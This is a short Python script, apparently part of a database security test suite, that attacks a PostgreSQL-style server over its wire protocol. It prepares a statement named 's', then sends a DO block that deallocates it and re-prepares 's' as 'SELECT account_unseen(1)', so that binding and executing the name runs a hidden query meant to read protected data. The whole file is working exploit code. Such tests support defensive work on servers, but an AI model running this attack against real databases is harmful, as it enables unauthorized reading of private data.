"""Has a function give a known name another meaning."""

from attacks.frames import SYNC, ask, bind, execute, parse, whole
from attacks.talking import Server

WANTS = "read"


def attack(server: Server) -> bytes:
    with server.login() as client:
        ask(client, parse(b"SELECT name FROM customer", b"s"), SYNC)
        anew = b"DO $$ BEGIN EXECUTE 'DEALLOCATE s';"
        anew += b" EXECUTE 'PREPARE s AS SELECT account_unseen(1)'; END $$"
        return ask(client, whole(anew), bind(b"s"), execute(), SYNC)
